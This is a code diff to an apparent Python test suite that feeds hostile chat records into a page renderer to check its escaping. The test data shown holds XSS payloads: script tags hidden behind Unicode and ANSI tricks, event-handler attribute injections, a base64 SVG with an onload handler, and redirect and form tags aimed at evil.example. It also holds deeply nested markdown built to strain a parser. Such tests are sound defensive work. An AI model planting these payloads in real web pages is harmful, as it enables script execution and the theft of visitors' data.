@@ -29,7 +29,8 @@ HOSTILE = (
     f"![x](javascript:{RUN})", f'[t](https://example.com "a\\" onmouseover=\\"{RUN}")', f"`</code><script>{RUN}</script>`",
     f"```html onload={RUN}\n</code></pre><script>{RUN}</script>\n```", f"{{{{ {RUN} }}}}{{% raw %}}", f"<iframe srcdoc='<script>{RUN}</script>'>",
     f"\u2028<script>{RUN}</script>\u2029", f"\x1b[31m<script>{RUN}</script>\x1b[0m", f"\u202e<script>{RUN}</script>", "<base href='https://evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form action='https://evil.example/'><input name=q><button>", "<!--", "<![CDATA[", "<title>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form action='https://evil.example/'><input name=q><button>", "<!--",
+    "<![CDATA[", "<title>",
 )  # fmt: skip
 NESTED = "> " * 3000 + "deep\n" + "\n".join("  " * n + "- x" for n in range(400)) + "\n" + "[" * 3000 + "(" * 3000
 
@@ -75,9 +76,10 @@ def page(archive: Archive, asked: tuple[int, list[str]]) -> Path:
     for number, text in enumerate((texts, *HOSTILE, NESTED)):
         records.append(answer(2 + number, S, text, f"m{number}"))
     call = answer(60, S, "", "m60")
+    drawing = base64.b64encode(f"<svg onload='{RUN}'/>".encode()).decode()
     call["message"]["content"] = [{"type": "tool_use", "id": "toolu_1", "name": HOSTILE[0], "input": {"command": texts}}]
     shown = [{"type": "text", "text": texts}, {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": picture(200)}},
-             {"type": "image", "source": {"type": "base64", "media_type": "image/svg+xml", "data": base64.b64encode(f"<svg onload='{RUN}'/>".encode()).decode()}},
+             {"type": "image", "source": {"type": "base64", "media_type": "image/svg+xml", "data": drawing}},
              {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": f"' onerror='{RUN}"}}]  # fmt: skip
     patch = [{"oldStart": 1, "oldLines": 1, "newStart": 1, "newLines": 1, "lines": [f"-{text}" for text in HOSTILE] + ["+needle-of-the-diff"]}]
     back = claude(61, S, "", message={"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": shown}]},
